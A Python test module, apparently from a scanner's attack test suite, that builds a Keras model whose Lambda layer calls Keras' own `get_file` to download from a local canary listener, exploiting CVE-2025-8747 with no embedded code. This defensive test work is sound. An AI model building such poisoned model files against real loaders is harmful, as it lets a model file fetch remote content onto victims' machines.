"""A Lambda whose function is one of Keras' own that downloads (CVE-2025-8747): no code in the file at all."""

from __future__ import annotations

from tests.attacks.canaries import Canaries
from tests.attacks.kit import LIBRARY, Attack, Upload
from tests.attacks.making import with_layer

ATTACK = Attack("download through `keras.utils.get_file`", "model_unsafe", LIBRARY, ("`sneak`",))


def make(canaries: Canaries) -> Upload:
    function = {
        "module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file",
    }  # fmt: skip
    arguments = {
        "origin": f"http://127.0.0.1:{canaries.listener.port}/weights",
        "cache_dir": str(canaries.folder),
        "cache_subdir": "",
    }
    settings = {"function": function, "output_shape": [4], "arguments": arguments}
    return Upload(with_layer("Lambda", settings))
